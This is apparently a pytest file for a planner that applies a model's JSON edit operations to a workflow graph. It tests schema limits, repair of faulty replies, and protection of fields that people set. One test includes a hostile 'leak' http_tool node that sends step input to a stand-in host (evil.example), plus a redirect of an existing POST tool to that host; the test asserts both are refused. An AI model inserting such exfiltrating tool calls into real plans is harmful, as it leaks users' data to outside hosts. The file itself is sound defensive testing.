"""Changes of a plan in words: what a reply may hold, what is sent back to the model, and what it may never do."""

from __future__ import annotations

import json
import threading
from collections.abc import Mapping, Sequence
from typing import Any

import jsonschema_rs
import pytest

from planwave.errors import InputError, PlanInvalid
from planwave.graph.diagnostics import errors_in
from planwave.graph.editing.editor import PlanContent, apply_operations
from planwave.graph.editing.revision import Progress
from planwave.graph.model import Graph, Node, Policy
from planwave.planner.capabilities import NO_RULES, PlanRules
from planwave.planner.planner import Planner
from planwave.planner.progress import PlanProgress
from planwave.planner.revised_plan import RevisedPlan, Revision
from planwave.planner.revision import read_revision
from planwave.settings import Limits
from tests.support.graph.builders import make_edge, make_graph, text_node
from tests.support.llm.fake_providers import FakeProviders, library_registry
from tests.support.llm.watched_model import WatchedModel

PLAN = make_graph(
    text_node("facts", "Water boils at 100 °C."),
    Node("note", "agent", "Note", "Write a note.", {"provider": "openai", "model": "gpt-x"}),
    edges=[("facts", "note")],
)
PROVIDERS = FakeProviders()
CATALOGUE = library_registry(PROVIDERS)
ANY_TYPE = PlanRules(node_types=["agent", "llm", "text", "fetch", "parser", "loop", "approval"])


def plan_of(graph: Graph) -> RevisedPlan:
    return RevisedPlan("a goal", PlanContent("A title", graph.to_document()), graph)


def changes(*operations: Any, answer: str = "Done.") -> str:
    return json.dumps({"answer": answer, "operations": list(operations)})


def node(node_id: str, node_type: str = "agent", **more: Any) -> dict[str, Any]:
    return {"op": "add_node", "node": {"id": node_id, "name": node_id, "type": node_type, **more}}


def edge(source: str, target: str) -> dict[str, Any]:
    return {"op": "add_edge", "edge": {"source": source, "target": target, "channel": "flow"}}


async def revised(
    *replies: str,
    graph: Graph = PLAN,
    words: str = "change it",
    rules: PlanRules = NO_RULES,
    **more: Any,
) -> tuple[Revision, WatchedModel]:
    models = WatchedModel(list(replies))
    planner = Planner(models, PROVIDERS, CATALOGUE, Limits(), rules)
    return await planner.revise(plan_of(graph), words, **more), models


def ids(graph: Graph | None) -> list[str]:
    assert graph is not None
    return [each.id for each in graph.nodes]


async def test_operations_make_a_graph_that_applying_them_makes_again() -> None:
    reply = changes(
        node("costs", description="Name the {{ costs }}."),
        edge("facts", "costs"),
        {"op": "remove_node", "id": "note"},
        {"op": "rename", "id": "facts", "to": "water"},
        {"op": "set_title", "title": "Costs"},
    )
    revision, models = await revised(reply)
    reading = revision.reading
    assert (reading.answer, ids(reading.graph)) == ("Done.", ["water", "costs"])
    assert reading.content is not None
    assert reading.content.title == "Costs"
    made = apply_operations(plan_of(PLAN).content, reading.operations, CATALOGUE)
    assert made.graph == reading.content.graph
    costs = reading.graph.by_id["costs"] if reading.graph else None
    assert costs is not None
    assert costs.data.keys() >= {"provider", "model"}  # what plans leave open is filled in
    assert costs.description.startswith("{% raw %}")  # the words of a model are no template
    prompt = models.requests[0].prompt
    assert "change it" in prompt
    assert "Water boils" in prompt


async def test_an_update_changes_only_what_it_names() -> None:
    update = {"op": "update_node", "id": "note", "set": {"description": "Write two notes."}}
    revision, _ = await revised(changes(update))
    changed = revision.reading.graph.by_id["note"] if revision.reading.graph else None
    assert changed == PLAN.by_id["note"]._replace(description="Write two notes.")


async def test_a_new_step_may_say_what_it_depends_on() -> None:
    chosen = Node("clever", "model", "Clever", "", {"provider": "openai", "model": "gpt-x"})
    graph = make_graph(text_node("facts", "Water boils."), chosen)
    reply = changes(node("costs", depends_on=["facts", "clever"]))
    reading = (await revised(reply, graph=graph))[0].reading
    assert [each.op for each in reading.operations] == ["add_node", "add_edge", "add_edge"]
    assert reading.graph is not None
    assert [(e.source, e.target_handle, e.channel) for e in reading.graph.edges] == [
        ("facts", "input", "flow"), ("clever", "model", "link"),
    ]  # fmt: skip
    with pytest.raises(PlanInvalid) as refused:
        await revised(*[changes(node("costs", depends_on=["nobody"]))] * 3)
    assert [each.code for each in refused.value.diagnostics] == ["dangling-edge"]


CHAIN = make_graph(
    *map(text_node, ("read", "sort", "ask", "pay")), edges=[("read", "sort"), ("sort", "pay")]
)
RUNNING = Progress({"read": "completed", "ask": "failed"}, spent=["ask"])
WRITABLE: Mapping[str, tuple[Sequence[str], Sequence[str]]] = {  # by form: in any plan; where read and ask have run
    "update_node": (["read", "sort", "ask", "pay"], ["sort", "pay"]),
    "rename": (["read", "sort", "ask", "pay"], ["sort", "pay"]),
    "remove_node": (["read", "sort", "ask", "pay"], ["sort", "ask", "pay"]),
    "add_edge to": (["read", "sort", "ask", "pay"], ["sort", "pay"]),
    "remove_edge to": (["read", "sort", "ask", "pay"], ["sort", "pay"]),
    "remove_edge from": (["read", "sort", "ask", "pay"], ["read", "sort", "ask", "pay"]),
}  # fmt: skip


def naming(form: str, name: str) -> dict[str, Any]:
    """Return the operation of a form with a step at the place in question."""
    match form:
        case "add_edge to":
            return edge("sort", name)
        case "remove_edge to" | "remove_edge from":
            ends = ("pay", name) if form.endswith("to") else (name, "pay")
            return {"op": "remove_edge", "source": ends[0], "target": ends[1]}
        case _:
            more = {"update_node": {"set": {"name": "x"}}, "rename": {"to": "x"}}
            return {"op": form, "id": name, **more.get(form, {})}


@pytest.mark.parametrize("progress", [None, RUNNING])
async def test_a_change_can_name_no_step_that_is_not_there_and_change_none_that_has_begun(
    progress: Progress | None,
) -> None:
    models = WatchedModel([changes(answer="No.")])
    plan = plan_of(CHAIN)._replace(progress=progress)
    await Planner(models, PROVIDERS, CATALOGUE, Limits()).revise(plan, "change it")
    (request,) = models.requests
    assert request.schema_name == "change"
    fits = jsonschema_rs.validator_for(request.schema).is_valid
    for form, names in WRITABLE.items():
        fitting = [
            name
            for name in ("read", "sort", "ask", "pay", "nobody")
            if fits({"answer": "", "operations": [naming(form, name)]})
        ]
        assert fitting == names[progress is not None], form
    title = {"answer": "", "operations": [{"op": "set_title", "title": "x"}]}
    assert fits(title) is (progress is None)
    new = {"depends_on": ["read", "another_new"], "from": [{"step": "sort", "handle": "output"}], "description": "x"}  # fmt: skip
    more = [node("new", **new), edge("new", "pay"), update("sort", data={"jsonOutput": None})]
    assert fits({"answer": "", "operations": more}), "a new step has an id of its own"


async def test_a_change_of_a_run_that_has_ended_or_of_a_large_plan_may_name_any_step() -> None:
    large = make_graph(*(text_node(f"s{number}") for number in range(56)))
    ended = plan_of(CHAIN)._replace(progress=RUNNING, has_ended=True)
    for plan, name, is_open in (
        (ended, "read", True), (ended, "nobody", False), (plan_of(large), "nobody", True),
    ):  # fmt: skip
        models = WatchedModel([changes(answer="No.")])
        await Planner(models, PROVIDERS, CATALOGUE, Limits()).revise(plan, "change it")
        reply = {"answer": "", "operations": [naming("update_node", name)]}
        assert jsonschema_rs.is_valid(models.requests[0].schema, reply) is is_open


async def test_a_model_without_structured_output_gets_no_schema_for_a_change() -> None:
    reply = changes(node("costs", depends_on=["facts"]))
    revision, models = await revised(reply, provider="own", model="two")
    assert models.requests[0].schema is None
    assert ids(revision.reading.graph) == ["facts", "note", "costs"]


FAULTY = [
    ("no JSON at all", "invalid-json"),
    (changes({"op": "remove_node", "id": "nobody"}), "unknown-node"),
    (changes({"op": "remove_edge", "source": "note", "target": "facts"}), "unknown-edge"),
    (changes(edge("note", "facts")), "flow-cycle"),
    (changes({"op": "explode", "id": "note"}), "invalid-field"),
    (changes(node("x", "teleport")), "unknown-node-type"),
    (changes({"op": "remove_node", "id": "note"}, {"op": "remove_node", "id": "facts"}), "empty-graph"),
    ('{"nodes": [], "edges": []}', "invalid-field"),
    (changes(node("x", "text", data={"text": "x", "apiKey": "sk-1"})), "forbidden-field"),
]  # fmt: skip


@pytest.mark.parametrize(("faulty", "code"), FAULTY, ids=[code for _, code in FAULTY])
async def test_a_faulty_reply_is_sent_back_and_repaired(faulty: str, code: str) -> None:
    seen: list[PlanProgress] = []
    revision, models = await revised(
        faulty, changes({"op": "set_title", "title": "New"}), on_progress=seen.append
    )
    assert revision.reading.graph is not None
    assert len(revision.attempts) == 2
    (repair,) = [each for each in seen if each.kind == "repair"]
    assert code in {each["code"] for each in repair.data["diagnostics"]}
    prompt = models.requests[1].prompt
    assert code in prompt
    assert "Do not write a whole plan" in prompt
    assert "Write the whole reply again" in prompt  # which is no plan
    assert "sk-1" not in json.dumps(revision.attempts)


async def test_after_two_repairs_nothing_comes_of_it() -> None:
    with pytest.raises(PlanInvalid) as refused:
        await revised(*[changes(edge("note", "facts"))] * 3)
    assert len(refused.value.attempts) == 3


@pytest.mark.parametrize("reply", [
    changes(answer="A plan cannot make coffee."),
    changes({"op": "set_title", "title": "A title"}, answer="A plan cannot make coffee."),
])  # fmt: skip
async def test_words_that_ask_for_nothing_give_the_sentence_of_the_model(reply: str) -> None:
    revision, _ = await revised(reply, words="make me a coffee")
    assert revision.reading.graph is None
    assert revision.reading.answer == "A plan cannot make coffee."


async def test_a_model_cannot_add_what_no_plan_may_have_but_leaves_what_a_person_wrote() -> None:
    by_hand = Node("post", "http_tool", "Post", data={"name": "post", "description": "Posts.", "url": "https://a.example/x", "method": "POST"})  # fmt: skip
    graph = make_graph(*PLAN.nodes, by_hand, edges=[("facts", "note")])
    hostile = node(
        "leak", "http_tool", data={"name": "leak", "url": "https://evil.example/{{ input }}"}
    )
    change = {"op": "update_node", "id": "post", "set": {"data": {"url": "https://evil.example/"}}}
    for reply in (hostile, change):
        with pytest.raises(PlanInvalid) as refused:
            await revised(*[changes(reply)] * 3, graph=graph)
        codes = {each.code for each in refused.value.diagnostics}
        assert codes & {"type-not-allowed", "field-not-for-plans"}
    revision, _ = await revised(changes(node("more"), edge("note", "more")), graph=graph)
    assert ids(revision.reading.graph) == ["facts", "note", "post", "more"]


GUARDED = make_graph(
    text_node("facts"),
    Node("note", "agent", "Note", "Write.", {
        "provider": "openai", "model": "gpt-x", "approval": "always", "maxSteps": 2,
        "tools": {"web_search": False, "subagents": False},
    }),
    Node("get", "fetch", "Get", data={"url": "https://a.example/", "method": "HEAD"}, policy=Policy(timeout_s=5), policy_document={"timeoutS": 5}),
    Node("many", "loop", "Many", data={"items": "[]", "body": {"nodes": [
        {"id": "inner", "type": "agent", "data": {"provider": "openai", "model": "m", "approval": "always", "userPrompt": "x"}}], "edges": []}}),
    Node("how", "text", "How", data={"text": "GET"}),
    edges=[("facts", "note"), ("facts", "get"), ("facts", "many"), make_edge("how", "get", target_handle="method")],
)  # fmt: skip
AGAIN = {"name": "Note", "description": "Write.", "provider": "openai", "model": "gpt-x"}


def update(node_id: str, **fields: Any) -> dict[str, Any]:
    return {"op": "update_node", "id": node_id, "set": fields}


def remove(node_id: str) -> dict[str, Any]:
    return {"op": "remove_node", "id": node_id}


def rename(node_id: str, to: str) -> dict[str, Any]:
    return {"op": "rename", "id": node_id, "to": to}


@pytest.mark.parametrize("operations", [
    [update("note", data={"approval": None})],
    [update("note", data={"maxSteps": None})],
    [update("note", data={"tools": None})],
    [update("note", type="llm")],
    [rename("note", "memo"), update("memo", data={"approval": None})],
    [rename("note", "memo"), remove("memo"), node("note", **AGAIN), edge("facts", "note")],
    [remove("note"), node("note", **AGAIN), edge("facts", "note")],
    [remove("note"), node("note", **AGAIN), rename("note", "memo"), edge("facts", "memo")],
    [update("get", data={"method": None})],
    [{"op": "remove_edge", "source": "how", "target": "get"}],
    [remove("how")],
    [update("many", data={"body": {"nodes": [{"id": "inner", "type": "agent", "data": {"userPrompt": "x"}}], "edges": []}})],
    [remove("facts"), node("facts", "text", data={"text": "x"}, policy={"timeoutS": 9}), edge("facts", "note")],
], ids=str)  # fmt: skip
async def test_what_people_set_and_no_plan_may_set_cannot_be_taken_away(operations: Any) -> None:
    with pytest.raises(PlanInvalid) as refused:
        await revised(*[changes(*operations)] * 3, graph=GUARDED, rules=ANY_TYPE)
    found = errors_in(refused.value.diagnostics)
    assert "field-not-for-plans" in {each.code for each in found}


@pytest.mark.parametrize("operations", [
    [rename("note", "memo"), update("memo", description="Write more.")],
    [rename("facts", "water"), rename("get", "facts"), rename("water", "get")],
    [update("get", name="Look"), rename("how", "verb")],
    [remove("get")],
    [remove("get"), remove("how"), rename("note", "get"), edge("facts", "many")],
], ids=str)  # fmt: skip
async def test_what_leaves_them_as_they_are_is_a_change_like_any_other(operations: Any) -> None:
    revision, _ = await revised(changes(*operations), graph=GUARDED, rules=ANY_TYPE)
    assert revision.reading.graph is not None
    assert len(revision.attempts) == 1


async def test_a_reply_with_more_operations_than_a_change_may_have_is_sent_back() -> None:
    most = Limits().plan_operations
    titles = [{"op": "set_title", "title": f"title {number}"} for number in range(most + 1)]
    revision, models = await revised(changes(*titles), changes(*titles[1:]))
    (error,) = revision.attempts[0]["diagnostics"]
    assert (error["code"], error["pointer"]) == ("limit-exceeded", "/operations")
    assert "plan_operations" in models.requests[1].prompt
    assert len(revision.reading.operations) == most


async def test_the_nodes_of_graphs_in_nodes_count_as_nodes_of_the_plan() -> None:
    def many(number: int) -> dict[str, Any]:
        inner = [{"id": f"n{each}", "type": "text", "data": {"text": "{{ item }}"}} for each in range(number)]  # fmt: skip
        return node("l", "loop", data={"items": "[1]", "body": {"nodes": inner, "edges": []}})

    room = Limits().plan_nodes - len(PLAN.nodes) - 1
    revision, _ = await revised(changes(many(room + 1)), changes(many(room)))
    codes = [[e["code"] for e in each["diagnostics"] if e["severity"] == "error"] for each in revision.attempts]  # fmt: skip
    assert codes == [["limit-exceeded"], []]


async def test_a_reply_is_read_beside_the_loop(monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[bool] = []

    def read(*arguments: Any) -> Any:
        threads.append(threading.current_thread() is threading.main_thread())
        return read_revision(*arguments)

    monkeypatch.setattr("planwave.planner.planner.read_revision", read)
    await revised(changes({"op": "set_title", "title": "New"}))
    assert threads == [False]


def faulty(*more: Node, edges: Any = ()) -> Graph:
    off = Node("off", "agent", "Off", "x", {"provider": "off", "model": "x"})
    broken = Node("broken", "loop", "Broken", data={"items": "{{ ", "body": 3})
    return make_graph(*PLAN.nodes, off, broken, *more, edges=[("facts", "note"), *edges])


@pytest.mark.parametrize("operation", [
    {"op": "set_title", "title": "New"},
    update("note", description="Write two."),
    update("off", description="Write two."),
    rename("off", "away"),
    rename("facts", "water"),
    remove("facts"),
    node("more", description="x"),
], ids=str)  # fmt: skip
async def test_errors_that_the_plan_had_before_are_not_those_of_the_model(operation: Any) -> None:
    stray = make_edge("note", "off", source_handle="nowhere")
    revision, _ = await revised(changes(operation), graph=faulty(edges=[stray]))
    assert revision.reading.graph is not None
    assert (len(revision.attempts), errors_in(revision.reading.diagnostics)) == (1, [])


@pytest.mark.parametrize("operation", [
    update("off", provider="nobody"),
    update("broken", data={"items": "{{ }"}),
    node("more", description="x", provider="off", model="x"),
    edge("note", "facts"),
], ids=str)  # fmt: skip
async def test_an_error_of_the_model_is_sent_back_also_where_there_was_one(operation: Any) -> None:
    with pytest.raises(PlanInvalid):
        await revised(*[changes(operation)] * 3, graph=faulty())


async def test_a_step_cannot_become_one_whose_closed_sockets_edges_lead_into() -> None:
    parser = Node("p", "parser", "P", data={"template": "{method}{body}"})
    edges = [make_edge("facts", "p", target_handle=each) for each in ("input", "method", "body")]
    graph = make_graph(*PLAN.nodes, parser, edges=[("facts", "note"), *edges])
    change = update("p", type="fetch", data={"url": "https://a.example/", "template": None})
    with pytest.raises(PlanInvalid) as refused:
        await revised(*[changes(change)] * 3, graph=graph, rules=ANY_TYPE)
    found = [each for each in refused.value.diagnostics if each.code == "field-not-for-plans"]
    assert len({each.edge for each in found}) == 2


async def test_a_small_model_is_not_asked() -> None:
    with pytest.raises(InputError) as refused:
        await revised(changes(), provider="local")
    assert refused.value.code in {"model-cannot-plan", "unknown-provider", "unavailable-provider"}
